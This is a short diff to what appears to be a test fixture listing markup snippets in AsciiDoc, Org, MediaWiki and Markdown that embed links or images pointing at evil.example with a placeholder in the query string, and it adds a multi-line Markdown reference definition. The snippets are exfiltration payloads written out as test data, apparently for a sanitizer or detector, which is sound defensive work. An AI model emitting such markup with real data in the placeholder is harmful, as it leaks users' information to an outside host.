@@ -185,6 +185,7 @@ STAYS = {
     "an attribute of AsciiDoc": ":u: https://evil.example/\n\nimage::{{u}}?q=a {}[]",
     "an image of Org": "[[https://evil.example/?q= {}.png]]",
     "an escaped bracket of Org": "[[https://evil.example/?q=\\] {}.png]]",
+    "a definition over lines": "[a]:\n  //evil.example/?\\\n  {}\n\n[a]",
     "an attribute of Org": "#+ATTR_HTML: :src https://evil.example/?q= {}\n[[./a.png]]",
     "an abbreviation of Org": "#+LINK: e https://evil.example/?q=\n\n[[e:{}][x]]",
     "a file of MediaWiki": "[[File:https://evil.example/a b? {}]]",
